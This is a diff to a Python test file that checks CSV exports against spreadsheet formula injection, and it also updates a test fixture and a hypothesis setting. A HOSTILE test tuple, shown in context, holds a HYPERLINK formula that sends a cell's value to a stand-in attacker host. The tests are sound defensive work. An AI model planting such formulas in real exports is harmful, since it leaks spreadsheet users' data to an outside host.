@@ -14,6 +14,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from arena.catalogue import load_catalogue
 from arena.collect.manifests import _csv_rows
 from arena.csv_text import as_cell, csv_text, from_cell
 from arena.exports.files import write_models
@@ -22,8 +23,8 @@ from arena.votes.decision_file import LogDecision, LogDecisions, LogRuling, read
 from arena.votes.files import csv_bytes, load_votes
 from arena.votes.resolving import read_name_map
 from arena.votes.table import iter_votes, votes_table
+from tests.catalogue.projects import write_project
 from tests.conftest import ROOT
-from tests.publish.worlds import make_world
 
 HOSTILE = (
     '=HYPERLINK("https://evil.example?x="&A1,"a prize")',
@@ -54,7 +55,7 @@ def test_other_texts_and_numbers_stay_as_they_are(text: str) -> None:
     assert from_cell(text) == text
 
 
-@settings(max_examples=50)
+@settings(max_examples=25)
 @given(st.text(alphabet="'=+-@\t\r\n.e1٣a", max_size=6))
 def test_nothing_is_lost_on_the_way(text: str) -> None:
     cell = as_cell(text)
@@ -121,7 +122,7 @@ def test_lists_and_maps_that_others_marked_are_read(tmp_path: Path) -> None:
 
 
 def test_the_list_of_models_has_no_formula(tmp_path: Path) -> None:
-    catalogue = make_world(tmp_path).catalogue
+    catalogue = load_catalogue(write_project(tmp_path))
     (key, model), *_ = catalogue.models.items()
     named = replace(catalogue, models={**catalogue.models, key: model.model_copy(update={"name": HOSTILE[0]})})
     write_models(named, tmp_path / "models.csv")
